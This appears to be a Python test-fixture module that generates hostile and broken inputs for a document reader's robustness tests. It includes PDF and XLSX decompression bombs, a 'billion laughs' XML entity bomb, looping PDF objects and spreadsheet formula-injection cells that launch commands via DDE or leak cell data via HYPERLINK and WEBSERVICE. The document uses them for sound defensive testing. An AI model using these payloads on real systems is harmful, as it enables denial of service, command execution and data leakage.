"""Generators of hostile and broken inputs for the robustness suites (PDF side).

Every generator is deterministic (seeded), so a failing case can be rebuilt from its name.
"""

from __future__ import annotations

import random
import zlib
from pathlib import Path

from corpora.render.report_source import ConstatSource, CriterionSource, QuestionSource, ReportSource


def small_report(path: Path) -> Path:
    """A two-page report: cover, one question with a two-row référentiel."""
    from corpora.render.report_pdf import render_evaluation

    source = ReportSource(
        cluster="Cluster Essai",
        commissioner="Service public de Wallonie Economie Emploi Recherche, Direction des Réseaux d'Entreprises",
        evaluator="Bureau Essai",
        date="2024-05-02",
        fictitious=True,
        questions=[
            QuestionSource(
                number=1,
                text="Dans quelle mesure le cluster sert-il ses membres ?",
                intro=["Deux critères ont été retenus."],
                criteria=[
                    CriterionSource(
                        theme="Réseau",
                        criterion="Le cluster anime son réseau.",
                        judgement="Atteint",
                        constats=[ConstatSource(number=1, text="Les membres se rencontrent souvent.")],
                    ),
                    CriterionSource(
                        theme="Visibilité",
                        criterion="Le cluster promeut ses membres.",
                        judgement="Partiel",
                        constats=[ConstatSource(number=2, text="La promotion reste surtout locale.")],
                    ),
                ],
                conclusion=["Le cluster sert bien ses membres."],
            )
        ],
    )
    return render_evaluation(source, path)


def write_pdf(objects: list[bytes], path: Path) -> Path:
    """A minimal well-formed PDF from object bodies (object 1 must be the catalog)."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    path.write_bytes(bytes(out))
    return path


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def bomb(path: Path, expanded_mb: int = 700) -> Path:
    """Zeros compressed twice (two nested FlateDecode filters): a few KB that grow to GB."""
    inner = zlib.compressobj(9)
    chunk = bytes(1024 * 1024)
    data = b"".join(inner.compress(chunk) for _ in range(expanded_mb)) + inner.flush()
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return write_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream(zlib.compress(data, 9), b"/Filter [/FlateDecode /FlateDecode] "),
        ],
        path,
    )


def looping_xobject(path: Path) -> Path:
    """A form XObject that draws itself."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>"
    form = stream(
        b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /X 5 0 R >> >> "
    )
    return write_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            stream(b"BT /F1 12 Tf 72 720 Td (Boucle) Tj ET /X Do"),
            form,
        ],
        path,
    )


def lying_page_count(path: Path) -> Path:
    """A page tree that claims a hundred million pages and holds one."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return write_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 100000000 >>",
            page,
            stream(b"BT 72 720 Td (Page) Tj ET"),
        ],
        path,
    )


def many_pages(path: Path, count: int) -> Path:
    """A real document of ``count`` empty pages (the page-count cap must refuse it quickly)."""
    kids = b" ".join(b"%d 0 R" % (4 + i) for i in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
        stream(b""),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * count
    return write_pdf(objects, path)


def long_text(path: Path, count: int, lines: int = 50) -> Path:
    """A harmless document that takes long to read: ``count`` pages of ``lines`` lines of text each."""
    text = (
        b"BT /F1 10 Tf 72 800 Td "
        + b" ".join(b"(Ligne %d d'un long rapport fictif) Tj 0 -14 Td" % i for i in range(lines))
        + b" ET"
    )
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
        stream(text),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    objects += [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 3 0 R >>"
    ] * count
    return write_pdf(objects, path)


def mutations(base: bytes, count: int, seed: int = 7) -> list[tuple[str, bytes]]:
    """Truncations at spread offsets and random byte flips of a valid PDF."""
    rng = random.Random(seed)
    cases: list[tuple[str, bytes]] = []
    n_trunc = count // 2
    for i in range(n_trunc):
        cut = max(1, int(len(base) * (i + 1) / (n_trunc + 1)))
        cases.append((f"truncated-{cut}", base[:cut]))
    for i in range(count - n_trunc):
        data = bytearray(base)
        for _ in range(rng.randint(1, 40)):
            pos = rng.randrange(len(data))
            data[pos] = rng.randrange(256)
        cases.append((f"flipped-{i}", bytes(data)))
    return cases


# ---------------------------------------------------------------- activity lists (CSV, XLSX)

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 4 12 34 56",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1;"cliquer")',
    "\t=1+1",
    '=WEBSERVICE("http://127.0.0.1:9/")',
]
"""Cells a spreadsheet would run as formulas (DDE, HYPERLINK, WEBSERVICE)."""


def activity_csv(rows: int = 5) -> str:
    lines = ["id;date;description;partenaires"]
    for i in range(rows):
        lines.append(
            f"A{i};2024-03-{i % 28 + 1:02d};Atelier d'échange n°{i} sur l'économie circulaire à Liège;Pôle Démo"
        )
    return "\n".join(lines) + "\n"


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    import io

    import openpyxl

    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsx_bomb(rows: int = 1_500_000) -> bytes:
    """A workbook whose one sheet declares ``rows`` tiny rows: a few MB zipped, GB as objects."""
    import io
    import zipfile

    base = xlsx_bytes([["id", "description"], ["1", "x"]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                head, _, _ = data.partition(b"<sheetData>")
                _, _, tail = data.partition(b"</sheetData>")
                body = b"".join(
                    b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (i, i)
                    for i in range(1, rows + 1)
                )
                # the dimension still says A1:B2: a reader trusting it would miss the rows
                data = head + b"<sheetData>" + body + b"</sheetData>" + tail
            dst.writestr(info, data)
    return out.getvalue()


def table_cases(count: int, seed: int = 11) -> list[tuple[str, bytes]]:
    """Broken, oddly encoded and hostile activity lists: (file name, content).

    Fixed cases first (encodings, formulas, structure), then truncations and byte flips of a valid
    CSV and a valid XLSX until ``count`` cases are made.
    """
    rng = random.Random(seed)
    text = activity_csv()
    xlsx = xlsx_bytes(
        [["id", "date", "description"], *[[f"A{i}", "2024-01-02", f"Atelier n°{i} à Namur"] for i in range(5)]]
    )
    cases: list[tuple[str, bytes]] = [
        ("utf8.csv", text.encode("utf-8")),
        ("utf8-bom.csv", text.encode("utf-8-sig")),
        ("cp1252.csv", text.encode("cp1252")),
        ("latin1-undefined-in-cp1252.csv", text.encode("latin-1").replace(b"\xe9", b"\x81\xe9")),
        ("utf16.csv", text.encode("utf-16")),
        ("mixed-encodings.csv", text.encode("utf-8") + "Réunion à Mons;x;y;z\n".encode("cp1252")),
        ("nul-bytes.csv", text.encode("utf-8").replace(b";", b"\x00;", 3)),
        ("binary-garbage.csv", bytes(rng.randrange(256) for _ in range(4096))),
        ("empty.csv", b""),
        ("header-only.csv", b"id;description\n"),
        ("unclosed-quote.csv", b'id,description\n1,"Atelier sans fin\n2,encore\n'),
        ("huge-field.csv", b"id,description\n1," + b"x" * 200_000 + b"\n"),
        ("wide-row.csv", b"id,description," + b",".join(b"c%d" % i for i in range(20_000)) + b"\n1,a\n"),
        ("ragged.csv", b"id;description\n1\n2;a;b;c;d\n;;;\n"),
        ("cr-only.csv", text.replace("\n", "\r").encode("utf-8")),
        (
            "formulas.csv",
            (
                "id,description\n"
                + "".join(f'{i},"{f.replace(chr(34), chr(34) * 2)}"\n' for i, f in enumerate(FORMULAS))
            ).encode("utf-8"),
        ),
        ("million-rows.csv", b"id,description\n" + b"".join(b"%d,Atelier\n" % i for i in range(1_000_000))),
        (
            "formulas.xlsx",
            xlsx_bytes([["id", "description", "total"], *[[i, f, "=SUM(1,2)"] for i, f in enumerate(FORMULAS)]]),
        ),
        ("not-a-zip.xlsx", b"id,description\n1,a\n"),
        ("zip-without-workbook.xlsx", _zip({"hello.txt": b"bonjour"})),
        ("empty-sheet.xlsx", xlsx_bytes([])),
        ("million-rows.xlsx", xlsx_bomb()),
        ("valid.xlsx", xlsx),
    ]
    rest = max(0, count - len(cases) - 1)
    for i in range(rest):
        base, suffix = (text.encode("cp1252"), "csv") if i % 2 else (xlsx, "xlsx")
        data = bytearray(base)
        if i % 4 < 2:
            cut = max(1, int(len(base) * (i + 1) / (rest + 1)))
            cases.append((f"truncated-{i}.{suffix}", bytes(data[:cut])))
            continue
        for _ in range(rng.randint(1, 30)):
            pos = rng.randrange(len(data))
            data[pos] = rng.randrange(256)
        cases.append((f"flipped-{i}.{suffix}", bytes(data)))
    return cases


def _zip(files: dict[str, bytes]) -> bytes:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def entity_bomb(path: Path, levels: int, before: str = "") -> Path:
    """RDF/XML whose DTD nests ``levels`` entities ten-fold ("billion laughs": 10**levels copies of
    "lol" once expanded), with ``before`` (a comment, a processing instruction) ahead of the DOCTYPE."""
    lols = "".join(f'<!ENTITY l{i} "' + f"&l{i - 1};" * 10 + '">' for i in range(1, levels + 1))
    path.write_text(
        f'<?xml version="1.0"?>\n{before}<!DOCTYPE rdf:RDF [<!ENTITY l0 "lol">{lols}]>\n'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="http://e/">'
        f'<rdf:Description rdf:about="http://e/a"><e:p>&l{levels};</e:p></rdf:Description></rdf:RDF>',
        encoding="utf-8",
    )
    return path


def batch_outcomes(names: list[str], results: list[tuple], known: tuple[str, ...]) -> dict[str, tuple]:
    """A batch reader's contract, checked case by case: each input ends in a value or in one error,
    never both, and an error is one line starting with a known reason. Returns name -> (value, error)."""
    outcomes = {}
    for name, (_path, value, error) in zip(names, results, strict=True):
        assert (value is None) != (error is None), name
        if error is not None:
            assert "\n" not in error and error.startswith(known), (name, error)
        outcomes[name] = (value, error)
    return outcomes
